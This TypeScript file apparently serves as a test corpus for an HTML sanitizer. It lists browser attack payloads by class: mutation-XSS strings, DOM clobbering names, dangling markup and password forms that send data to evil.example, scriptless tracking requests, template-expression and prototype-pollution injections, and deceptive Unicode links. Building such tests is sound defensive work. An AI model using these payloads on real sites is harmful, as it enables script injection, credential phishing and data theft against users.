/** Attacks that rely on how browsers parse, repair and look up HTML; the cheat sheet has no heading for them. */
import type { AttackClass } from './attack-class.ts';

export const BROWSER_ATTACKS: readonly AttackClass[] = [
  {
    name: 'Mutation when sanitized HTML is parsed again',
    texts: [
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
      '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
      '<svg><desc><noembed><p id="</noembed><img src=x onerror=alert(1)>"></noembed></desc></svg>',
      '<math><mi><table><mi><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
      '<table><caption><svg><title><table><caption></table><style><img src=x onerror=alert(1)></style>',
      `${'<div>'.repeat(520)}<svg><style><img src=x onerror=alert(1)></style></svg>`,
      '<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>',
      '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    ],
  },
  {
    name: 'Names that replace properties of the document',
    texts: [
      '<form name="body"><input name="nodeName"><input name="attributes"></form>',
      '<form><input id="attributes"><input name="removeChild"><img src=x onerror=alert(1)></form>',
      '<a id="member" name="member"></a><img name="currentScript">',
      '<img name="trustedTypes"><form id="portal"><output name="brand">x</output></form>',
      '<form id="document"><img name="cookie"></form>',
      '<object name="getElementById"></object><embed name="querySelector">',
    ],
  },
  {
    name: 'Elements that leave their place',
    texts: [
      '</div></section></main><h1>Your session has ended</h1>',
      '</p></li></ul></details><div id="root"><p>Sign in again</p></div>',
      '<plaintext>All that follows is text',
      '<textarea>All that follows is in a field',
      '<!-- All that follows is a comment',
      '<title>All that follows is a title',
      '<p><table><tr><td><p><table><tr><td></table></table></div></div></div>After',
    ],
  },
  {
    name: 'Markup that is left open to take what follows',
    texts: [
      "<img src='https://evil.example/log?",
      '<a href="https://evil.example/log?',
      '<form action="https://evil.example/"><textarea name="text">',
      '<button formaction="https://evil.example/" form="search">Send',
      '<base target="',
      '<style>@import "https://evil.example/?',
    ],
  },
  {
    name: 'Forms and controls that look like the portal',
    texts: [
      '<form action="https://evil.example/" method="post"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>',
      '<input type="text" autofocus accesskey="s" value="Your card number">',
      '<button type="submit" formaction="javascript:alert(1)">Continue</button>',
      '<label for="search-term">Press here</label><output>42</output><meter value="1"></meter>',
      '<p role="alertdialog" aria-label="Your session has ended" class="dialog" id="main">Sign in again</p>',
      '<input list="x"><datalist id="x"><option>One</datalist><fieldset disabled><legend>x</legend></fieldset>',
    ],
  },
  {
    name: 'Requests without a script',
    texts: [
      '<a href="/coverage/" ping="https://evil.example/ping">Read more</a>',
      '<link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">',
      '<link rel="preload" as="image" href="https://evil.example/p.gif"><link rel="modulepreload" href="https://evil.example/x.js">',
      '<picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.gif" alt="A picture"></picture>',
      '<img src="https://evil.example/p.gif" width="1" height="1" alt="">',
      '<video src="https://evil.example/v.webm" autoplay></video><track src="https://evil.example/t.vtt" default>',
      '<table background="https://evil.example/p.gif"><tr><td style="background:url(https://evil.example/q.gif)">x</td></tr></table>',
      '<q cite="https://evil.example/">Quoted</q><blockquote cite="javascript:alert(1)">Quoted</blockquote>',
      '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
      '<a href="/coverage/" attributionsrc="https://evil.example/">Read more</a>',
    ],
  },
  {
    name: 'Shadow roots, templates and elements of the page',
    texts: [
      '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
      '<slot name="x"></slot><p is="portal-island" slot="x">Text</p>',
      '<astro-island uid="x" component-url="https://evil.example/x.js" renderer-url="https://evil.example/y.js" client="load"></astro-island>',
      '<portal-island component-url="data:text/javascript,alert(1)"></portal-island>',
      '<template><script>alert(1)</script></template>',
    ],
  },
  {
    name: 'Expressions of other libraries',
    texts: [
      '{{constructor.constructor("alert(1)")()}}',
      '${alert(1)}',
      '<p v-html="alert(1)" ng-init="alert(1)" x-init="alert(1)" hx-on:load="alert(1)">Text</p>',
      '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
      '{"__proto__":{"ALLOWED_TAGS":["script"],"innerHTML":"<img src=x onerror=alert(1)>"}}',
      '[object Object]<%= alert(1) %>#{alert(1)}',
    ],
  },
  {
    name: 'Letters that deceive a reader',
    texts: [
      '<p>Call \u202e0110-555-008-1\u202c now</p>',
      '<a href="https://evil.example/">https://mincr.localhost/</a>',
      '<a href="mailto:care@plan.example?subject=Refund&body=Send%20us%20your%20password">Write to us</a>',
      '<a href="tel:*21*5550110#">Call us</a>',
      '<a href="sms:+14125550120;?&body=YES">Answer YES</a>',
      '\ufeff\u200b<\u200bscript>alert(1)</script>',
      '<a href="https://еvil.example/" title="mincr.localhost">mincr.localhost</a>',
      `Z${'\u0300'.repeat(400)}algo`,
    ],
  },
];
